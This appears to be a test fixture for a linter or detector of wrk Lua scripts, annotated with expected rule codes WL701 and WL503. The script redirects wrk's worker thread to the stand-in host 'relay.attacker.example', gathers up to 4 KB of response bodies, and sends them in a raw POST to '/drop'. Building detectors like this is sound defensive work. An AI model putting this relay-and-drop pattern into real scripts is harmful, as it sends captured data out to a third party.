-- A relay reached with wrk.connect (WL701) receives collected bodies in the raw request (WL503).

local relay = wrk.lookup("relay.attacker.example", "80") -- want WL701

function setup(thread)
   if wrk.connect(relay[1]) then -- want WL701
      thread.addr = relay[1] -- want WL701
   end
end

local captured = ""

function response(status, headers, body)
   if #captured < 4096 then
      captured = captured .. body
   end
end

function request()
   if captured == "" then
      return wrk.format("GET", "/")
   end
   local raw = "POST /drop HTTP/1.1\r\nHost: relay\r\nContent-Length: " .. #captured .. "\r\n\r\n" .. captured
   return raw -- want WL503
end
